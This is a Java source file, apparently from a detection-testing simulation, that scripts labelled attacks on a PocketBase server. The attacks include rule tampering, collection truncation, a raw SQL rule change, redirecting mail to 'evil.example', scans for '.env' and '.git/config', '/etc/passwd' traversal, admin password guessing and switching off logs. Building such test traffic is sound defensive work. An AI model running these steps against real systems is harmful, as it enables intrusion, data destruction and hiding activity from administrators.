package dev.lapwing.simulation;

import java.time.Duration;

/** Attacks on rules and settings, on PocketBase itself and on the log (P3, P6, X1). */
final class SystemAttacks {
    /** When the log is turned down. */
    static final Duration TURNED_DOWN = Duration.ofHours(4 * 24 + 19);

    private static final String[] SCANNED = {
        "/.env", "/.git/config", "/wp-login.php", "/admin.php", "/api/v1/users", "/backup.sql"
    };

    private final Ferry ferry;
    private final Town town;

    SystemAttacks(Ferry ferry, Town town) {
        this.ferry = ferry;
        this.town = town;
    }

    void plan(Attacks attacks) {
        planOpenings(attacks);
        planDamage(attacks);
        planScans(attacks);
        planBrokenRequests(attacks);
        planLog(attacks);
    }

    private void planOpenings(Attacks attacks) {
        attacks.plan("f-31 P3 rule_opened_and_read loud", "3 19 0", Duration.ofMinutes(2), 7, this::openAndRead);
        attacks.once(
                "f-33 P3 condition_dropped evasive",
                "2 20 0",
                () -> change("bookings", "{\"viewRule\":\"@request.auth.id != ''\"}"));
    }

    private void planDamage(Attacks attacks) {
        attacks.once("f-34 P3 collection_emptied loud", "4 23 0", () -> {
            ferry.ask(thief(), "DELETE", "/api/collections/notices/truncate", "");
            ferry.ask(thief(), "DELETE", "/api/collections/notices", "");
        });
        attacks.once(
                "f-35 P3 rule_changed_in_sql evasive",
                "1 21 0",
                () -> ferry.post(
                        thief(),
                        "/api/sql",
                        "{\"query\":\"UPDATE _collections SET listRule = '' WHERE name = 'crew'\"}"));
        attacks.once(
                "f-36 P3 mail_redirected loud",
                "4 4 0",
                () -> ferry.ask(
                        thief(),
                        "PATCH",
                        "/api/settings",
                        "{\"meta\":{\"appURL\":\"https://ferry.example.evil.example\",\"senderAddress\":\"desk@evil.example\"}}"));
        attacks.once("f-37 P3 hidden_field_shown evasive", "1 22 0", () -> {
            String fields = ferry.lab("GET", "/api/collections/bookings", "")
                    .path("fields")
                    .toString();
            change("bookings", "{\"fields\":" + fields.replaceFirst("(\"hidden\":)true", "$1false") + "}");
        });
    }

    private void planScans(Attacks attacks) {
        attacks.plan(
                "f-61 P6 scan loud",
                "1 2 0",
                Duration.ofMillis(700),
                200,
                i -> ferry.get(
                        Actor.guest("192.0.2.61", "Mozilla/5.0 (compatible; Nuclei)"),
                        SCANNED[i % 6] + (i < 6 ? "" : "." + i)));
        attacks.plan(
                "f-62 P6 traversal loud",
                "2 3 0",
                Duration.ofSeconds(4),
                8,
                i -> ferry.get(
                        Actor.guest("192.0.2.62", "curl/8.17.0"),
                        "/api/files/sailings/x/..%2f..%2f..%2fetc%2fpasswd" + i));
    }

    private void planBrokenRequests(Attacks attacks) {
        attacks.plan(
                "f-63 P6 old_admin_routes loud",
                "3 4 0",
                Duration.ofSeconds(5),
                6,
                i -> ferry.post(
                        Actor.guest("192.0.2.63", "python-requests/2.32.4"),
                        "/api/admins/auth-with-password",
                        "{\"identity\":\"a@b.example\",\"password\":\"p" + i + "\"}"));
        attacks.plan(
                "f-64 P6 broken_bodies loud",
                "4 1 0",
                Duration.ofSeconds(2),
                40,
                i -> ferry.post(
                        Actor.guest("192.0.2.64", "ffuf/2.1"),
                        "/api/collections/passengers/records",
                        "{\"email\":" + "[".repeat(i + 1)));
        attacks.plan(
                "f-65 P6 scan_spread distributed",
                "3 1 0",
                Duration.ofSeconds(30),
                90,
                i -> ferry.get(
                        Actor.guest("100.72." + i % 30 + ".9", "Mozilla/5.0 (compatible; Nuclei)"),
                        SCANNED[i % 6] + "~" + i));
    }

    private void planLog(Attacks attacks) {
        attacks.once("f-71 X1 addresses_hidden loud", "2 22 0", () -> logs("{\"logs\":{\"logIP\":false}}"));
        attacks.once("f-72 X1 addresses_shown_again evasive", "2 22 20", () -> logs("{\"logs\":{\"logIP\":true}}"));
        attacks.once("f-73 X1 log_turned_down evasive", "4 19 0", () -> logs("{\"logs\":{\"minLevel\":9}}"));
        attacks.once("f-74 X1 log_turned_up_again evasive", "4 19 30", () -> logs("{\"logs\":{\"minLevel\":0}}"));
    }

    private void openAndRead(int number) throws Exception {
        if (number == 0) {
            change("manifests", "{\"listRule\":\"\",\"viewRule\":\"\"}");
        } else {
            ferry.get(
                    Actor.guest("192.0.2.31", "curl/8.17.0"),
                    "/api/collections/manifests/records?perPage=20&page=" + number);
        }
    }

    private void change(String collection, String body) throws Exception {
        ferry.ask(town.chief.actor.from("192.0.2.33"), "PATCH", "/api/collections/" + collection, body);
    }

    private void logs(String body) throws Exception {
        ferry.ask(thief(), "PATCH", "/api/settings", body);
    }

    private Actor thief() {
        return town.chief.actor.from("192.0.2.34");
    }
}
